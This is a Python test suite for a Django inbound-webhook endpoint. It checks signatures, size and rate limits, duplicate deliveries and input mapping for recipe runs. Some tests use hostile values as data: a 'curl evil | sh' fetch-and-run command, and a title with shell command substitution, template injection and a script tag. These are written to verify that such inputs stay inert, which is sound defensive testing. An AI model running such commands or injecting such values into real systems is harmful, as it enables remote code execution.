"""Inbound webhooks (triggers.webhooks): every answer of `/hooks/<key>`, each leaving its
record, through Django's test client; a delivery racing its own copy; and, through a real
worker, a hostile value reaching a run as text and a GitHub pull request starting a copy of
the step machine's no-mistakes with the inputs its `trigger:` block maps."""

from __future__ import annotations

import hashlib
import hmac
import json
import threading
import time
import uuid
from pathlib import Path

import pytest
from django.db import connections
from django.test import RequestFactory

from notifications import signing
from runs.models import Run
from tests.conftest import wait_for, wait_run
from triggers import views, webhooks
from triggers.models import Webhook, WebhookDelivery

ROOT = Path(__file__).resolve().parents[2]

ECHO = """
name: Echo a title
inputs:
  title: {type: text, required: true}
  count: {type: number}
nodes:
  - id: echo
    bash: printf '%s' $INPUTS.title
"""

SIMPLE = """
schema: planeai.loop.recipe.v1
id: {id}
name: Simple
trigger: {trigger}
roles:
  r: {{provider: demo, mode: write, isolation: project}}
steps:
  - {{id: done, kind: loop.status, status: approved}}
"""


def pull_request(action="opened", title="Greet people by name", ref="feature/greeting"):
    """A body as GitHub sends it for a `pull_request` event (the fields a recipe reads)."""
    return {
        "action": action,
        "number": 7,
        "pull_request": {
            "number": 7,
            "title": title,
            "body": None,
            "draft": False,
            "head": {"ref": ref, "sha": "9f1c0de", "repo": {"full_name": "acme/greeter"}},
            "base": {"ref": "main", "sha": "1a2b3c4"},
            "user": {"login": "octocat"},
        },
        "repository": {"full_name": "acme/greeter", "default_branch": "main"},
        "sender": {"login": "octocat"},
    }


def github_signature(secret: str, body: bytes) -> str:
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


def encoded(body) -> bytes:
    return body if isinstance(body, bytes) else json.dumps(body).encode()


def github_headers(webhook, body: bytes, event="pull_request", delivery=None) -> dict:
    return {
        "X-GitHub-Event": event,
        "X-GitHub-Delivery": delivery or str(uuid.uuid4()),
        "X-Hub-Signature-256": github_signature(webhook.secret, body),
    }


def post(client, webhook, body, headers=None, key=None, **github):
    """POST a delivery to the webhook (signed the GitHub way unless `headers` are given)."""
    raw = encoded(body)
    headers = github_headers(webhook, raw, **github) if headers is None else headers
    return client.post(
        f"/hooks/{key or webhook.key}", data=raw, content_type="application/json", headers=headers
    )


@pytest.fixture
def echo(make_recipe):
    return make_recipe(ECHO, slug="echo-title")


@pytest.fixture
def hook(echo):
    """A GitHub webhook on `echo`: opened or updated pull requests, the title as input."""

    def make(recipe=None, **fields):
        defaults = {
            "name": "pull requests",
            "events": ["pull_request"],
            "filters": {"/action": ["opened", "synchronize"]},
            "inputs": {"title": "/pull_request/title"},
        }
        return Webhook.objects.create(recipe=recipe or echo, **{**defaults, **fields})

    return make


def deliveries(webhook) -> list[tuple[int, str]]:
    return [(d.status, d.outcome) for d in webhook.deliveries.order_by("id")]


# --- started, and once only ----------------------------------------------------------------


def test_a_signed_pull_request_starts_one_run_with_the_mapped_inputs(client, hook):
    webhook = hook(message="/pull_request/title")
    body = pull_request()
    started = post(client, webhook, body, delivery="d-1")
    assert started.status_code == 201, started.json()
    run = Run.objects.get()
    assert started.json() == {
        "detail": f"Started run {run.pk}.",
        "run": run.pk,
        "url": f"/runs/{run.pk}/",
    }
    assert run.inputs == {"title": "Greet people by name", "count": ""}
    assert run.message == "Greet people by name"
    assert run.started_by is None and run.started_by_name == "webhook 'pull requests'"
    (row,) = webhook.deliveries.all()
    assert (row.status, row.outcome, row.run, row.delivery_id, row.event) == (
        201,
        "started",
        run,
        "d-1",
        "pull_request",
    )

    again = post(client, webhook, body, delivery="d-1")
    assert again.status_code == 200
    assert again.json() == {"detail": f"Already delivered: run {run.pk}.", "run": run.pk}
    assert Run.objects.count() == 1
    assert deliveries(webhook) == [(201, "started"), (200, "duplicate")]


def test_values_are_given_as_the_inputs_types_want(client, hook):
    webhook = hook(inputs={"title": "/number", "count": "/pull_request/number"})
    assert post(client, webhook, pull_request()).status_code == 201
    assert Run.objects.get().inputs == {"title": "7", "count": 7}  # text gets a string


# --- refused, each with its record and no run --------------------------------------------------


def test_a_wrong_or_missing_signature_is_401(client, hook):
    webhook = hook()
    raw = encoded(pull_request())
    wrong = {**github_headers(webhook, raw), "X-Hub-Signature-256": github_signature("x", raw)}
    answer = post(client, webhook, raw, headers=wrong)
    assert answer.status_code == 401
    assert answer.json() == {"detail": webhooks._MISMATCH}
    unsigned = github_headers(webhook, raw)
    del unsigned["X-Hub-Signature-256"]
    assert "No signature" in post(client, webhook, raw, headers=unsigned).json()["detail"]
    # the right signature of another body
    other = github_headers(webhook, encoded(pull_request(title="other")))
    assert post(client, webhook, raw, headers=other).status_code == 401
    assert deliveries(webhook) == [(401, "refused")] * 3 and not Run.objects.exists()


def test_an_oversize_body_is_413(client, hook, settings):
    settings.LOOP_WEBHOOK_MAX_BYTES = 200
    webhook = hook()
    answer = post(client, webhook, pull_request(title="x" * 300))
    assert answer.status_code == 413
    assert answer.json() == {"detail": "The body is larger than 200 bytes."}
    assert deliveries(webhook) == [(413, "refused")] and not Run.objects.exists()


def test_the_view_reads_no_more_than_the_limit_and_a_byte(settings):
    settings.LOOP_WEBHOOK_MAX_BYTES = 100
    factory = RequestFactory()
    declared = factory.post("/hooks/k", data=b"x" * 5000, content_type="application/json")
    assert views._body(declared) == b""  # declares more: nothing read
    assert declared.read() == b"x" * 5000  # still all there, unread
    # One that sends more than it declares is read to the limit and one byte, no further
    # (then answered 413).
    lying = factory.post("/hooks/k", data=b"y" * 5000, content_type="application/json")
    lying.META["CONTENT_LENGTH"] = "100"
    assert views._body(lying) == b"y" * 101
    within = factory.post("/hooks/k", data=b"z" * 100, content_type="application/json")
    assert views._body(within) == b"z" * 100


def test_a_generic_delivery_is_signed_as_notifications_sign_and_not_too_old(client, hook):
    webhook = hook(
        signature="generic", events=["run_ended"], filters={}, inputs={"title": "/run/name"}
    )
    raw = json.dumps({"event": "run_ended", "run": {"id": 4, "name": "nightly"}}).encode()

    def signed(at: int, delivery: str) -> dict:
        return {
            **signing.signed_headers(webhook.secret, str(at), raw),
            signing.EVENT_HEADER: "run_ended",
            signing.DELIVERY_HEADER: delivery,
        }

    old = post(client, webhook, raw, headers=signed(int(time.time()) - 301, "n-1"))
    assert old.status_code == 401 and "too old" in old.json()["detail"]
    ahead = post(client, webhook, raw, headers=signed(int(time.time()) + 400, "n-2"))
    assert ahead.status_code == 401
    assert not Run.objects.exists()
    fresh = post(client, webhook, raw, headers=signed(int(time.time()), "n-3"))
    assert fresh.status_code == 201, fresh.json()
    assert Run.objects.get().inputs["title"] == "nightly"
    assert deliveries(webhook) == [(401, "refused"), (401, "refused"), (201, "started")]
    assert webhook.deliveries.get(status=201).delivery_id == "n-3"


@pytest.mark.parametrize(
    ("body", "event", "why"),
    [
        (pull_request(), "push", "Ignored: event 'push' is not one this webhook takes"),
        (pull_request(action="closed"), "pull_request", 'Ignored: /action is "closed", not'),
        ({"zen": "Keep it logically awesome."}, "ping", "Ignored: GitHub's ping"),
    ],
)
def test_an_event_or_a_field_the_webhook_does_not_take_is_202(client, hook, body, event, why):
    webhook = hook()
    answer = post(client, webhook, body, event=event)
    assert answer.status_code == 202 and answer.json()["detail"].startswith(why)
    assert deliveries(webhook) == [(202, "ignored")] and not Run.objects.exists()


def test_a_disabled_webhook_is_403(client, hook):
    webhook = hook(enabled=False)
    answer = post(client, webhook, pull_request())
    assert (answer.status_code, answer.json()) == (403, {"detail": "This webhook is disabled."})
    assert deliveries(webhook) == [(403, "refused")] and not Run.objects.exists()


def test_an_unknown_key_is_404_and_recorded_nowhere(client, hook):
    webhook = hook()
    answer = post(client, webhook, pull_request(), key="no-such-key")
    assert (answer.status_code, answer.json()) == (404, {"detail": "No such webhook."})
    assert not WebhookDelivery.objects.exists() and not Run.objects.exists()


def test_over_the_rate_is_429_with_retry_after(client, hook):
    webhook = hook(per_minute=2, filters={"/action": "nothing matches"})
    assert [post(client, webhook, pull_request()).status_code for _ in range(2)] == [202, 202]
    answer = post(client, webhook, pull_request())
    assert answer.status_code == 429
    assert 1 <= int(answer["Retry-After"]) <= 60
    assert "More than 2 deliveries a minute" in answer.json()["detail"]
    # Over the rate is only logged: the rate bounds the rows a sender can add.
    assert deliveries(webhook) == [(202, "ignored"), (202, "ignored")]
    assert not Run.objects.exists()


def test_a_missing_mapped_field_or_an_object_is_422(client, hook):
    webhook = hook(inputs={"title": "/pull_request/milestone/title", "count": "/pull_request/head"})
    answer = post(client, webhook, pull_request())
    assert answer.status_code == 422
    assert answer.json()["errors"] == {
        "title": "the delivery has no /pull_request/milestone/title",
        "count": "/pull_request/head is not a single value",
    }
    assert deliveries(webhook) == [(422, "refused")] and not Run.objects.exists()
    assert "title: the delivery has no" in webhook.deliveries.get().note


def test_inputs_the_recipe_refuses_are_422(client, hook):
    webhook = hook(inputs={"title": "/pull_request/title", "count": "/pull_request/title"})
    answer = post(client, webhook, pull_request())
    assert answer.status_code == 422
    assert answer.json()["errors"] == {"count": "must be a number"}
    assert deliveries(webhook) == [(422, "refused")] and not Run.objects.exists()


def test_a_body_that_is_not_a_json_object_or_has_no_delivery_id_is_400(client, hook):
    webhook = hook()
    for raw in (b"payload=%7B%7D", b"[1, 2]", b"[" * 5000):
        assert post(client, webhook, raw).status_code == 400
    raw = encoded(pull_request())
    no_id = github_headers(webhook, raw)
    del no_id["X-GitHub-Delivery"]
    answer = post(client, webhook, raw, headers=no_id)
    assert answer.status_code == 400 and "X-GitHub-Delivery" in answer.json()["detail"]
    assert deliveries(webhook) == [(400, "refused")] * 4 and not Run.objects.exists()


def test_only_post_is_answered(client, hook):
    webhook = hook()
    answer = client.get(f"/hooks/{webhook.key}")
    assert answer.status_code == 405 and answer["Allow"] == "POST"
    assert not WebhookDelivery.objects.exists()


# --- what the recipe's trigger declares --------------------------------------------------------


def test_ci_failure_and_pr_feedback_take_their_events_by_default(client, plane_recipe, hook):
    ci = hook(
        plane_recipe(SIMPLE.format(id="on-ci", trigger="{kind: ci_failure}")),
        events=[],
        filters={},
        inputs={},
    )
    suite = {"action": "completed", "check_suite": {"conclusion": "success", "head_branch": "x"}}
    assert post(client, ci, suite, event="check_suite").status_code == 202
    suite["check_suite"]["conclusion"] = "failure"
    assert post(client, ci, suite, event="check_suite").status_code == 201
    workflow_run = {"action": "completed", "workflow_run": {"conclusion": "failure"}}
    assert post(client, ci, workflow_run, event="workflow_run").status_code == 201
    assert post(client, ci, pull_request(), event="pull_request").status_code == 202

    feedback = hook(
        plane_recipe(SIMPLE.format(id="on-review", trigger="{kind: pr_feedback}")),
        events=[],
        filters={},
        inputs={},
    )
    assert (
        post(client, feedback, {"action": "submitted"}, event="pull_request_review").status_code
        == 201
    )
    assert post(client, feedback, pull_request(), event="pull_request").status_code == 202
    assert Run.objects.count() == 3


def test_a_task_event_recipe_is_refused_at_start(client, plane_recipe, hook):
    webhook = hook(
        plane_recipe(SIMPLE.format(id="on-task", trigger="{kind: task_event}")),
        events=[],
        filters={},
        inputs={},
    )
    answer = post(client, webhook, {"task": 1}, event="task")
    assert answer.status_code == 409
    assert "no task tracker" in answer.json()["detail"]
    assert deliveries(webhook) == [(409, "refused")] and not Run.objects.exists()


def test_an_input_the_recipe_runs_as_a_command_is_never_filled_from_a_delivery(
    client, plane_recipe, hook, demo_repository, settings
):
    settings.LOOP_REPOSITORIES = [str(demo_repository)]
    webhook = hook(
        plane_recipe(no_mistakes_on_pull_requests()),
        repository=str(demo_repository),
        events=[],
        filters={},
        inputs={"branch": "/pull_request/head/ref", "gate_command": "/pull_request/title"},
    )
    answer = post(client, webhook, pull_request(title="curl evil | sh"))
    assert answer.status_code == 422
    assert "runs this input as a command" in answer.json()["errors"]["gate_command"]
    assert not Run.objects.exists()


# --- two copies of one delivery at once --------------------------------------------------------


def test_two_copies_of_a_delivery_racing_start_one_run(transactional_db, hook, monkeypatch, sent):
    """Both copies pass the check for a delivery seen before, then race to start: the
    second's record waits on the first's transaction and fails, and it answers 200."""
    webhook = hook()
    raw = encoded(pull_request())
    headers = github_headers(webhook, raw, delivery="same-one")
    headers["Content-Length"] = str(len(raw))
    both_checked = threading.Barrier(2, timeout=60)
    seen = threading.local()
    checked = webhooks._duplicate

    def check_together(webhook, sent):
        answer = checked(webhook, sent)
        if not getattr(seen, "once", False):  # the check before the start, not the one after
            seen.once = True
            both_checked.wait()
        return answer

    monkeypatch.setattr(webhooks, "_duplicate", check_together)
    answers = []

    def deliver():
        try:
            answers.append(webhooks.receive(webhook.key, headers, raw))
        finally:
            connections.close_all()

    threads = [threading.Thread(target=deliver) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert sorted(a.status for a in answers) == [200, 201]
    run = Run.objects.get()
    assert {a.run for a in answers} == {run.pk}
    assert sorted(deliveries(webhook)) == [(200, "duplicate"), (201, "started")]
    assert [name for name, _ in sent] == ["advance_run"]


# --- through a real worker ---------------------------------------------------------------------


def test_a_hostile_title_reaches_the_run_as_text_and_nothing_runs(
    live_worker, client, hook, tmp_path
):
    marker = tmp_path / "pwned"
    title = f"$(touch {marker}) `touch {marker}` {{{{ 7*7 }}}} <script>alert(1)</script>"
    webhook = hook()
    answer = post(client, webhook, pull_request(title=title))
    assert answer.status_code == 201, answer.json()
    run = wait_run(Run.objects.get(pk=answer.json()["run"]))
    assert run.status == "completed", run.error
    assert run.inputs["title"] == title
    assert run.nodes.get(node_id="echo").output == title  # "{{ 7*7 }}" stays, no 49
    assert not marker.exists()


def test_a_pull_request_starts_no_mistakes_with_the_branch_its_trigger_maps(
    live_worker, client, plane_recipe, hook, demo_repository, settings
):
    from loops.stepmachine.demo import FEATURE_BRANCH
    from runs.models import Iteration

    settings.LOOP_REPOSITORIES = [str(demo_repository)]
    recipe = plane_recipe(no_mistakes_on_pull_requests())
    # No events, filters or inputs of its own: the recipe's trigger block says them.
    webhook = hook(
        recipe,
        name="no-mistakes on PRs",
        repository=str(demo_repository),
        events=[],
        filters={},
        inputs={},
    )
    closed = post(client, webhook, pull_request(action="closed", ref=FEATURE_BRANCH))
    assert closed.status_code == 202 and not Run.objects.exists()
    pushed = post(client, webhook, {"ref": "refs/heads/main"}, event="push")
    assert pushed.status_code == 202

    opened = post(client, webhook, pull_request(ref=FEATURE_BRANCH))
    assert opened.status_code == 201, opened.json()
    run = Run.objects.get(pk=opened.json()["run"])
    assert run.recipe == recipe and run.workdir == str(demo_repository)
    assert run.inputs["branch"] == FEATURE_BRANCH and run.inputs["target_branch"] == "main"
    assert run.started_by_name == "webhook 'no-mistakes on PRs'"
    # The worker takes it: the reviewer is asked about the branch the delivery named.
    review = wait_for(
        lambda: Iteration.objects.filter(run=run, node_id="reviewer").first(),
        120,
        message="the reviewer's first turn",
    )
    assert f"Review the diff between main and {FEATURE_BRANCH}." in review.prompt


# --- helpers -------------------------------------------------------------------------------


def no_mistakes_on_pull_requests() -> str:
    """The builtin no-mistakes, started by GitHub pull requests, played by the demo agent."""
    source = (ROOT / "recipes" / "builtin" / "no-mistakes.yaml").read_text()
    trigger = (
        "trigger:\n"
        "  kind: github_event\n"
        "  events: [pull_request]\n"
        "  filters:\n"
        "    /action: [opened, synchronize]\n"
        "  inputs:\n"
        "    branch: /pull_request/head/ref\n"
    )
    for old, new in [
        ("id: no-mistakes\n", "id: no-mistakes-on-prs\n"),
        ("trigger:\n  kind: manual\n", trigger),
        ("provider: default", "provider: demo"),
        ("default: make ci", "default: python3 -m unittest -q"),
    ]:
        assert old in source, old
        source = source.replace(old, new)
    return source


@pytest.fixture
def plane_recipe(make_recipe):
    def make(source: str):
        import yaml

        return make_recipe(source, slug=yaml.safe_load(source)["id"])

    return make


@pytest.fixture
def demo_repository(tmp_path) -> Path:
    from loops.stepmachine.demo import create_repository

    return create_repository(tmp_path / "repositories")


@pytest.fixture
def sent(monkeypatch):
    """Messages sent on commit, kept in a list instead of reaching a broker."""
    from runs import dispatch

    messages: list = []
    monkeypatch.setattr(dispatch, "deliver", lambda name, *args: messages.append((name, args)))
    return messages
